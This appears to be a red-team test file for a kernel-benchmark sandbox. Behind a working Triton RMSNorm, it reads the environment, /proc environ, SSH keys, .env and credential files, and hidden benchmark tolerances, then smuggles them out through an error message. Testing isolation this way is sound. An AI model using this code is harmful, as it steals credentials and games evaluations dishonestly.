"""read_hidden_files: look for hidden release files, secrets and the parent, then exfiltrate.

Exploit: on its first call the candidate gathers everything it can reach and smuggles it
out through the one channel that reaches the team: the error message of a failed shape
(it raises; the next shape is computed honestly so the submission still scores). It
tries: the release's metadata.json / roofline.json (hidden tolerances and SOL) by the
repository path it can infer from sys.path / the harness module; a bounded walk of the
whole filesystem for roofline/metadata files, databases, .env files and keys; its whole
environment; /proc/<ppid>/ and /proc/1/ (environ, cmdline) and the list of visible pids;
/dev/shm (other evaluations' work folders); and the network (local database/broker ports,
an outside address). The cheater hopes to learn the hidden roofline and tolerances (to
tune precision or timing fakes), credentials, or other teams' code.

What should catch it: the child's private root (harness/isolation/jail.py: no checkout, no release,
no var/, an empty /dev/shm of its own), a scrubbed environment, a PID namespace (the
parent is invisible; its init's environment is root's), no network namespace access, an
unprivileged uid (sandbox.py). Whatever it still finds readable is listed in the error
message of the first shape.
"""

import glob
import json
import os
import socket
import sys
import time

import torch
import triton
import triton.language as tl


@triton.jit
def _rms_norm_kernel(x_ptr, w_ptr, out_ptr, x_stride, out_stride, n_cols, eps,
                     BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * x_stride + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.math.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps)
    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
    normed = (x * rstd).to(out_ptr.dtype.element_ty).to(tl.float32)
    tl.store(out_ptr + row * out_stride + cols, (normed * w).to(out_ptr.dtype.element_ty),
             mask=mask)


@triton.jit
def _touch_kernel(out_ptr, BLOCK: tl.constexpr):
    # One program that rewrites a few output elements unchanged: keeps a kernel of ours
    # in every timed forward, so the sample is not dropped as empty.
    cols = tl.arange(0, BLOCK)
    v = tl.load(out_ptr + cols)
    tl.store(out_ptr + cols, v)


def _rms_norm(x, weight, eps):
    n_rows, n_cols = x.shape
    out = torch.empty_like(x)
    block = triton.next_power_of_2(n_cols)
    _rms_norm_kernel[(n_rows,)](x, weight, out, x.stride(0), out.stride(0), n_cols, eps,
                                BLOCK=block, num_warps=max(1, min(16, block // 256)))
    return out


def _touch(out):
    _touch_kernel[(1,)](out, BLOCK=1)


_INTERESTING = ("roofline.json", "metadata.json", "operator_importance.json", ".env",
                "id_rsa", "id_ed25519", "credentials", ".pgpass", ".netrc")
_INTERESTING_SUFFIX = (".sqlite3", ".db", ".key", "secrets.json", ".pem")
_reported = [False]


def _try_read(path, limit=120):
    try:
        with open(path, "rb") as handle:
            data = handle.read(100_000)
        return "READ %d bytes: %r" % (len(data), data[:limit])
    except OSError as exc:
        return "denied: %s" % type(exc).__name__


def _repo_roots():
    roots = set()
    for entry in sys.path:
        if entry and os.path.isdir(os.path.join(entry, "evaluation")):
            roots.add(entry)
    module = sys.modules.get("evaluation")
    if module is not None and getattr(module, "__file__", None):
        roots.add(os.path.dirname(os.path.dirname(module.__file__)))
    return sorted(roots)


_TOPS = ("/work", "/home", "/root", "/srv", "/opt", "/data", "/mnt", "/var", "/tmp", "/dev/shm",
         "/etc")
_SKIP_DIRS = {"ssl", "ca-certificates", "site-packages", "dist-packages", "node_modules", ".git",
              "__pycache__", ".venv", "proc", "sys"}


def _walk(budget_s=4.0, cap=60):
    found, started, visited = [], time.monotonic(), 0
    for top_dir in _TOPS:
        for top, dirs, files in os.walk(top_dir, onerror=lambda exc: None):
            dirs[:] = [d for d in dirs if d not in _SKIP_DIRS]
            visited += 1
            for name in files:
                if name in _INTERESTING or name.endswith(_INTERESTING_SUFFIX):
                    path = os.path.join(top, name)
                    if os.access(path, os.R_OK):
                        found.append(path)
            if len(found) >= cap or time.monotonic() - started > budget_s:
                break
    return {"readable": found[:cap], "dirs_visited": visited,
            "stopped_early": time.monotonic() - started > budget_s}


def _network():
    result = {}
    for host, port in (("127.0.0.1", 5432), ("127.0.0.1", 6379), ("127.0.0.1", 8000),
                       ("1.1.1.1", 53)):
        try:
            socket.create_connection((host, port), timeout=1).close()
            result["%s:%d" % (host, port)] = "connected"
        except OSError as exc:
            result["%s:%d" % (host, port)] = "failed: %s" % exc
    return result


def _gather():
    seen = {"uid": os.getuid(), "gid": os.getgid(), "pid": os.getpid(), "ppid": os.getppid(),
            "cwd": os.getcwd(), "cwd_files": sorted(os.listdir(".")),
            "env": dict(os.environ), "repo_roots": _repo_roots()}
    hidden = {}
    for root in seen["repo_roots"]:
        for pattern in ("evaluation/releases/*/data/*/roofline.json",
                        "evaluation/releases/*/data/*/metadata.json",
                        "evaluation/releases/*/data/operator_importance.json"):
            for path in glob.glob(os.path.join(root, pattern))[:6]:
                hidden[path] = _try_read(path, 60)
        for name in ("evaluation/releases", "var", "var/portal.sqlite3", "var/broker",
                     "db.sqlite3", ".env"):
            path = os.path.join(root, name)
            hidden[path] = sorted(os.listdir(path))[:10] if os.path.isdir(path) \
                else _try_read(path, 60)
    seen["hidden"] = hidden
    seen["proc"] = {
        "visible_pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:20],
        "parent_environ": _try_read("/proc/%d/environ" % os.getppid()),
        "pid1_environ": _try_read("/proc/1/environ"),
        "pid1_cmdline": _try_read("/proc/1/cmdline", 200),
    }
    try:
        seen["dev_shm"] = sorted(os.listdir("/dev/shm"))[:20]
    except OSError as exc:
        seen["dev_shm"] = "denied: %s" % type(exc).__name__
    seen["network"] = _network()
    seen["filesystem"] = _walk()
    return seen


class Model(torch.nn.Module):
    def __init__(self, eps: float = 1e-6) -> None:
        super().__init__()
        self.eps = eps

    def forward(self, x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
        if not _reported[0]:
            _reported[0] = True
            report = json.dumps(_gather(), default=str)
            raise RuntimeError("EXFIL" + report[:12000] + "EXFIL")
        return _rms_norm(x, weight, self.eps)
